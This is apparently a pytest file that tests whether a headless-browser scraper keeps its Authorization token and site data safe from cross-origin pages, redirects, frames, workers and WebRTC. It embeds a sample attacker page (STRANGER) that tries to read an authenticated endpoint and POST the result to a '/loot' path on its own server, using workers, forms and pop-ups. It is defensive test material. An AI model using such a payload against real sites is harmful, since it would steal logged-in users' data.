"""Whose requests a page makes: a real browser, servers at several addresses, and pages that try what they may not."""

import json
import re
import socket
import threading
import tracemalloc
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from importlib import import_module
from importlib.util import find_spec
from typing import Any

import pytest

from fetching import fetch, fetch_all, visit
from scrape_clean.secret import Secret
from scrape_clean.sources import browser
from scrape_clean.sources.visits import Fetched, Rendering
from servers import Handler, Request, Server, answer, serving

pytestmark = [
    pytest.mark.usefixtures("loopback"),
    pytest.mark.skipif(
        find_spec("playwright") is None or browser.find_chromium() is None,
        reason="needs the extra `render` and Chromium or Chrome on the PATH",
    ),
]
TOKEN = "Bearer abc123"  # noqa: S105
KEY = {"headers": (("Authorization", Secret(TOKEN)),), "rendering": Rendering(settle=2.0), "timeout": 60}
SOON = {**KEY, "rendering": Rendering(settle=1.0)}
"""For pages that do not bide their time, as strangers do."""
TELL = """
const said = {};
const tell = (name, promise) => promise.then(r => r.text()).then(t => t, e => String(e)).then(t => {
  said[name] = t; said_here.textContent = JSON.stringify(said);
});
"""
"""Pages tell in an element what they could read."""

STRANGER = """
<meta name="referrer" content="no-referrer"><script>
const blob = code => URL.createObjectURL(new Blob([code]));
const quiet = `{mode: "no-cors", referrerPolicy: "no-referrer"}`;
fetch("%(home)s/read?%(who)s").then(r => r.text()).then(
  t => fetch("/loot", {method: "POST", mode: "no-cors", body: "read " + t}),
  e => fetch("/loot", {method: "POST", mode: "no-cors", body: "not read"}));
fetch("%(home)s/quiet?%(who)s", {mode: "no-cors"});
fetch("%(home)s/post?%(who)s", {method: "POST", mode: "no-cors", body: "all"});
fetch("%(home)s/put?%(who)s", {method: "PUT", body: "all"}).catch(() => 0);
new Worker(blob(`fetch("%(home)s/worker?%(who)s", ${quiet}); importScripts("%(home)s/import?%(who)s")`));
new Worker(blob("new Worker(URL.createObjectURL(new Blob([" + JSON.stringify(
  `fetch("%(home)s/nested?%(who)s", ${quiet})`) + "])))"));
window.open("%(home)s/popup?%(who)s");
for (const [path, target] of [["form", "sink"], ["self", ""]]) {
  const form = document.createElement("form");
  form.method = "POST"; form.action = "%(home)s/" + path + "?%(who)s"; form.target = target;
  const sink = document.createElement("iframe"); sink.name = "sink";
  document.documentElement.append(sink, form);
  setTimeout(() => form.submit(), target ? 300 : 1500);
}
</script>
"""
"""A page that does what it can with the site that it is shown for."""


def told(fetched: Fetched) -> Any:  # noqa: ANN401
    """What a page has told."""
    assert fetched.problem is None, fetched.problem
    assert fetched.capture is not None
    found = re.search(rb"<pre[^>]*>(.*?)</pre>", fetched.capture.body)
    assert found is not None
    return json.loads(found[1] or b"{}")


def having(pages: Mapping[str, bytes | str]) -> Handler:
    """A server of pages by their path without query; anything else is 404."""

    def handle(request: Request, _connection: object) -> bytes:
        page = pages.get(request.path.partition("?")[0])
        if page is None:
            return answer("nothing", status="404 Not Found")
        return page if isinstance(page, bytes) else answer(page)

    return handle


@contextmanager
def stranger(pages: dict[str, bytes | str], address: str, who: str, home: Server) -> Iterator[Server]:
    """A server of another origin, with a page that attacks the site at home."""
    with serving(having(pages), address) as server:
        pages["/evil"] = STRANGER % {"home": home.url, "who": who}
        pages["/loot"] = "thanks"
        yield server


def paths_with(server: Server, token: str) -> set[str]:
    """What was asked for with a token."""
    return {request.path for request in server.requests if request.headers.get("authorization") == token}


def test_strangers_in_a_page_have_no_headers_of_its_source_and_read_nothing() -> None:
    """Frames of another host or port, or in a sandbox, their workers, forms and pop-ups; what is the site's own has."""
    pages: dict[str, bytes | str] = {
        "/read": "balance",
        "/frame": "<script>fetch('/by-frame')</script>",
        "/sandboxed": "<script>fetch('/by-sandboxed', {mode: 'no-cors'})</script>",
    }
    with (
        serving(having(pages)) as home,
        stranger({}, "127.0.0.2", "host", home) as host,
        stranger({}, "127.0.0.1", "port", home) as port,
    ):
        frames = "".join(f'<iframe src="{url}"></iframe>' for url in (f"{host.url}/evil", f"{port.url}/evil", "/frame"))
        script = TELL + (
            "tell('own', fetch('/read?own')); fetch('/post?own', {method: 'POST', body: 'x'});"
            "const x = new XMLHttpRequest(); x.open('PUT', '/put?own'); x.send('x');"
            "fetch('/worker-script');"
        )
        pages["/"] = (
            f'<pre id="said_here"></pre><script>{script}</script>{frames}'
            '<iframe sandbox="allow-scripts" src="/sandboxed"></iframe>'
            f"<iframe srcdoc=\"<script>fetch('{home.url}/by-srcdoc')</script>\"></iframe>"
        )
        tried = {"/by-sandboxed", "/by-srcdoc"} | {
            f"/{path}?{who}"
            for path in ("read", "quiet", "post", "worker", "nested", "form", "self")
            for who in ("host", "port")
        }
        fetched = fetch(home.url, **KEY)
        for _ in range(2):  # on a busy machine a page may be shown before the workers of its workers have begun
            if not tried <= {request.path for request in home.requests}:
                fetched = fetch(home.url, **KEY)
        asked = {request.path for request in home.requests}
        loot = {request.body for one in (host, port) for request in one.requests if request.path == "/loot"}
        strangers = {request.headers.get("authorization") for one in (host, port) for request in one.requests}
    assert told(fetched) == {"own": "balance"}
    own = {"/", "/read?own", "/post?own", "/put?own", "/worker-script", "/frame", "/by-frame", "/sandboxed"}
    assert paths_with(home, TOKEN) == own
    assert tried <= asked
    assert not any(path.startswith("/popup") for path in asked)
    assert loot == {b"not read"}
    assert strangers == {None}
    methods = {request.line.split(" ")[0] for request in home.requests if request.path in {"/put?host", "/put?port"}}
    assert methods == {"OPTIONS"}


def test_a_page_that_has_left_its_site_has_no_headers_of_it_even_back_at_home() -> None:
    """By a redirect, by a script, by a redirect out and back, and by a frame that leads all of it away."""
    pages: dict[str, bytes | str] = {"/read": "balance", "/back": "<p>back<script>fetch('/read?back')</script>"}
    with serving(having(pages)) as home, stranger({}, "127.0.0.2", "host", home) as host:
        bouncing: dict[str, bytes | str] = {
            "/bounce": answer(status="302 Found", location=f"{home.url}/back"),
            "/home": f"<script>location.href = '{home.url}/back'</script>",
            "/top": f"<meta name=referrer content=no-referrer><script>top.location = '{home.url}/back?top'</script>",
        }
        with serving(having(bouncing), "127.0.0.3") as third:
            pages |= {
                "/redirect": answer(status="302 Found", location=f"{host.url}/evil"),
                "/out-and-back": answer(status="302 Found", location=f"{third.url}/bounce"),
                "/script": f"<script>location.href = '{third.url}/home'</script>",
                "/framed": f"<p>framed<iframe src='{third.url}/top'></iframe>",
                "/on": "<script>location.href = '/there'</script>",
                "/there": "<p>there<script>fetch('/read?there')</script>",
            }
            starts = ["/redirect", "/out-and-back", "/script", "/framed", "/on"]
            outcomes = fetch_all(
                [visit(home.url + path, path, **(KEY if path == "/redirect" else SOON)) for path in starts]
            )
        asked = {request.path for request in home.requests}
        loot = [request.body for request in host.requests if request.path == "/loot"]
    assert paths_with(home, TOKEN) == {*starts, "/there", "/read?there"}
    assert {"/read?host", "/post?host", "/self?host", "/back", "/read?back", "/back?top"} <= asked
    assert loot == [b"not read"]
    ends = {one.visit.source: one.capture.url for one in outcomes if one.capture and one.capture.url}
    assert ends["/on"] == f"{home.url}/there"
    assert ends["/script"] == ends["/out-and-back"] == f"{home.url}/back"


def test_what_other_hosts_give_leave_to_is_read_and_nothing_else() -> None:
    """Cross-origin data as in a browser: by CORS, with a preflight where one is due; scripts and styles as ever."""
    leave = {
        "access_control_allow_origin": "*",
        "access_control_allow_methods": "PUT",
        "access_control_allow_headers": "x-key",
    }
    data = {
        "/open": answer("open", **leave),
        "/closed": answer("closed"),
        "/app.js": answer("tell('script', Promise.resolve(new Response('ran')))", content_type="text/javascript"),
        "/page.css": answer("pre { width: 77px; display: block }", content_type="text/css"),
    }
    with serving(having(data), "127.0.0.2") as other:
        script = TELL + "".join(
            f"tell('{name}', fetch('{other.url if name[0] != '/' else ''}{path}', {options}));"
            for name, path, options in (
                ("open", "/open", "{}"),
                ("closed", "/closed", "{}"),
                ("put", "/open?put", "{method: 'PUT', headers: {'X-Key': '1'}, body: 'x'}"),
                ("refused", "/closed?put", "{method: 'PUT', body: 'x'}"),
                ("unusual", "/open?unusual", "{headers: {'X-Other': '1'}}"),
                ("/to-open", "/to-open", "{}"),
                ("/to-closed", "/to-closed", "{}"),
                ("/data", "/data", "{}"),
            )
        )
        wide = "onload=\"tell('style', Promise.resolve(new Response(getComputedStyle(said_here).width)))\""
        peek = (
            "onload=\"let t; try { t = contentDocument.body.textContent } catch (e) { t = 'hidden' };"
            "tell('frame', Promise.resolve(new Response(t)))\""
        )
        pages: dict[str, bytes | str] = {
            "/to-open": answer(status="302 Found", location=f"{other.url}/open"),
            "/to-closed": answer(status="302 Found", location=f"{other.url}/closed"),
            "/to-app.js": answer(status="302 Found", location=f"{other.url}/app.js"),
            "/data": "data",
            "/": f'<pre id="said_here"></pre><script>document.cookie = "city=Москва; path=/data"; {script}</script>'
            f'<link rel="stylesheet" href="{other.url}/page.css" {wide}><script src="/to-app.js"></script>'
            f'<iframe src="/to-closed" {peek}></iframe>',
        }
        with serving(having(pages)) as home:
            fetched = fetch(home.url, **KEY)
            cookies = {one.headers.get("cookie") for one in home.requests if one.path == "/data"}
        lines = {request.line.rpartition(" ")[0] for request in other.requests}
    failed = "TypeError: Failed to fetch"
    found = told(fetched)
    assert found.pop("frame") in {"hidden", ""}
    assert found == {
        "open": "open",
        "closed": failed,
        "put": "open",
        "refused": failed,
        "unusual": failed,
        "/to-open": "open",
        "/to-closed": failed,
        "/data": "data",
        "script": "ran",
        "style": "77px",
    }
    assert {"OPTIONS /open?put", "PUT /open?put", "OPTIONS /closed?put", "OPTIONS /open?unusual"} <= lines
    assert not {"PUT /closed?put", "GET /open?unusual"} & lines
    assert cookies == {"city=Москва".encode().decode("latin-1")}  # as UTF-8


def test_where_scripts_lead_to_no_page_none_is_taken() -> None:
    """What Chromium shows in its place is not the page's text; a page at another address, and by a redirect, is."""
    leads = "<p>Opening hours<script>location.href = '%s'</script>"
    targets = {
        "robots": "/login",
        "guard": "http://127.0.0.9:1/",
        "pdf": "/file.pdf",
        "missing": "/missing",
        "blank": "about:blank",
        "fine": "/fine",
        "far": "/far",
    }
    with serving(having({"/found": "<p>found"}), "127.0.0.2") as other:
        pages: dict[str, bytes | str] = {
            "/robots.txt": answer("User-agent: *\nDisallow: /login\n", content_type="text/plain"),
            "/file.pdf": answer(b"%PDF-1.4\n", content_type="application/pdf"),
            "/fine": "<p>fine",
            "/far": answer(status="302 Found", location=f"{other.url}/found?a=1&b=%22"),
            **{f"/to/{name}": leads % target for name, target in targets.items()},
        }
        with serving(having(pages)) as home:
            common = {"rendering": Rendering(), "robots": True, "allow": ("127.0.0.1", "127.0.0.2"), "timeout": 60}
            visits = [visit(f"{home.url}/to/{name}", name, **common) for name in targets]
            outcomes = {one.visit.source: one for one in fetch_all(visits)}
    reasons = {name: one.problem.reason for name, one in outcomes.items() if one.problem}
    says = {
        "robots": f"{home.url}/login: robots.txt asks",
        "guard": "http://127.0.0.9:1/: 127.0.0.9 is refused",
        "pdf": f"{home.url}/file.pdf: is application/pdf, no HTML",
        "missing": f"{home.url}/missing: answers 404 Not Found",
        "blank": "about:",
    }
    assert set(reasons) == set(says)
    for name, words in says.items():
        assert reasons[name].startswith("its scripts lead to a page that cannot be had: ")
        assert words in reasons[name]
    fine, far = outcomes["fine"].capture, outcomes["far"].capture
    assert fine is not None
    assert (fine.url, b"<p>fine</p>" in fine.body) == (f"{home.url}/fine", True)
    assert far is not None
    assert (far.url, b"<p>found</p>" in far.body) == (f"{other.url}/found?a=1&b=%22", True)
    assert [request.path for request in other.requests if request.path != "/robots.txt"] == ["/found?a=1&b=%22"]


def test_scripts_have_no_say_in_how_large_a_page_is() -> None:
    """Nor in what is taken of it; what is too large is not carried here to be looked at."""
    lies = "Object.defineProperty(document, 'documentElement', {get: () => ({outerHTML: %s})});"
    pages: dict[str, bytes | str] = {
        "/small": "<p>here<script>" + lies % "'x'.repeat(3e6)" + "</script>",
        "/large": "<p>here<script>" + lies % "''" + "document.body.append('x'.repeat(2e7))</script>",
        "/named": "<p>here<img name=documentElement><form name=doctype></form>",
    }
    with serving(having(pages)) as home:
        visits = [
            visit(home.url + path, path, rendering=Rendering(), timeout=60, max_bytes=1_000_000) for path in pages
        ]
        import_module("playwright.async_api")  # which is large, and may not be loaded yet
        tracemalloc.start()
        try:
            outcomes = {one.visit.source: one for one in fetch_all(visits)}
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    assert "larger than" in str(outcomes["/large"].problem)
    assert peak < 15_000_000
    for path in ("/small", "/named"):
        capture = outcomes[path].capture
        assert capture is not None
        assert b"<p>here" in capture.body


def test_webrtc_sends_nothing() -> None:
    """Neither to STUN nor to TURN servers, which no request announces."""
    packets: list[bytes] = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.settimeout(0.1)
        ended = threading.Event()

        def listen() -> None:
            while not ended.is_set():
                try:
                    packets.append(listener.recv(2048))
                except TimeoutError:
                    continue

        thread = threading.Thread(target=listen)
        thread.start()
        relay = f"127.0.0.1:{listener.getsockname()[1]}"
        page = f"""<pre id="said_here"></pre><script>{TELL}
        const peer = new RTCPeerConnection({{iceServers: [
          {{urls: "stun:{relay}"}}, {{urls: "turn:{relay}", username: "a", credential: "b"}}]}});
        peer.createDataChannel("c");
        tell("gathered", new Promise(done => peer.onicecandidate = e => e.candidate || done(new Response("all"))));
        peer.createOffer().then(offer => peer.setLocalDescription(offer));
        </script>"""
        with serving(having({"/": page})) as home:
            rendering = Rendering(settle=2.0)
            found = told(fetch(home.url, rendering=rendering, timeout=60, allow=("127.0.0.1",)))
        ended.set()
        thread.join()
    assert packets == []
    assert found == {"gathered": "all"}
